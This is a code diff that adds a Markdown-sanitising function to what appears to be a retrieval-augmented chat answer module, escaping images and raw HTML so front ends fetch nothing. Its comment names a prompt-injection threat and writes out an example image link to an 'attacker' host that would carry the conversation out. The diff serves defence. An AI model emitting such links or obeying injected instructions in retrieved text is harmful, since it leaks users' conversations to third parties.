@@ -21,6 +21,7 @@ __all__ = [
     "background_task_reply",
     "citation_payload",
     "message_text",
+    "neutralise_markdown",
     "react_citations",
     "split_conversation",
     "step_status",
@@ -87,6 +88,71 @@ def with_references(answer: str, citations: Sequence[Citation]) -> str:
         return answer
     lines = [f"[{c.number}] {c.title or _short(c.doc_id)} ({c.source}/{_short(c.doc_id)})" for c in citations]
     return f"{answer}\n\n**Sources**\n" + "\n".join(f"- {line}" for line in lines)
+
+
+# -- answers shown by Markdown front ends ---------------------------------------------------------
+# An answer quotes retrieved text, and a document may carry an injected instruction. A Markdown
+# front end (Open WebUI, a chat page rendering Markdown) fetches the URL of every image it draws,
+# so `![](https://attacker/?q=<the conversation>)` or `<img src=...>` in an answer would be an
+# exfiltration and tracking channel that needs no click. Links stay: following one takes a click.
+
+_FENCE_OPEN = re.compile(r"^( {0,3})(`{3,}|~{3,})(.*)$")
+_IMAGE = re.compile(r"(?<!\\)((?:\\\\)*)!\[")  # "![" whose "!" is not backslash-escaped
+_TAG = re.compile(r"<(?=[A-Za-z/!?])")  # the start of an HTML tag, comment, declaration or instruction
+_SAFE_AUTOLINK = re.compile(r"<(?:https?://|mailto:)[^\s<>]*>", re.I)
+
+
+def neutralise_markdown(text: str) -> str:
+    """``text`` with its Markdown images and raw HTML made inert, everything else kept.
+
+    An image, ``![alt](url)`` (inline or by reference), has its bracket escaped
+    (``!\\[alt](url)``): it shows as the characters it was, and nothing is fetched. Every ``<``
+    that would open an HTML tag, comment or declaration becomes ``&lt;``, so ``<img src=...>``,
+    ``<script>`` or ``<iframe>`` shows as text. Kept as they are: citations ``[n]``, links,
+    ``<https://...>`` and ``<mailto:...>`` autolinks, emphasis, lists, tables, and the inside of
+    fenced code blocks (which a front end never renders as Markdown or HTML). Where a front
+    end's reading of the text may differ from this one (an unclosed fence, inline code), the
+    text is neutralised: showing a stray ``\\`` beats fetching a URL.
+    """
+    lines = text.split("\n")
+    out: list[str] = []
+    i = 0
+    while i < len(lines):
+        end = _fence_end(lines, i)
+        if end is not None:  # a closed fenced code block: kept verbatim, fences included
+            out.extend(lines[i : end + 1])
+            i = end + 1
+            continue
+        out.append(_neutralise_line(lines[i]))
+        i += 1
+    return "\n".join(out)
+
+
+def _fence_end(lines: list[str], start: int) -> int | None:
+    """The index of the line that closes the fenced code block opened at ``start``, if it is one."""
+    opened = _FENCE_OPEN.match(lines[start])
+    if opened is None:
+        return None
+    fence, info = opened.group(2), opened.group(3)
+    if fence[0] == "`" and "`" in info:  # not a fence (CommonMark): inline code
+        return None
+    closing = re.compile(rf"^ {{0,3}}{re.escape(fence[0])}{{{len(fence)},}}[ \t\r]*$")
+    for j in range(start + 1, len(lines)):
+        if closing.match(lines[j]):
+            return j
+    return None  # unclosed: front ends disagree on what follows, so it is not kept verbatim
+
+
+def _neutralise_line(line: str) -> str:
+    line = _IMAGE.sub(lambda m: m.group(1) + "!\\[", line)
+    kept: list[str] = []
+    last = 0
+    for link in _SAFE_AUTOLINK.finditer(line):
+        kept.append(_TAG.sub("&lt;", line[last : link.start()]))
+        kept.append(link.group(0))
+        last = link.end()
+    kept.append(_TAG.sub("&lt;", line[last:]))
+    return "".join(kept)
 
 
 def _short(doc_id: str) -> str:
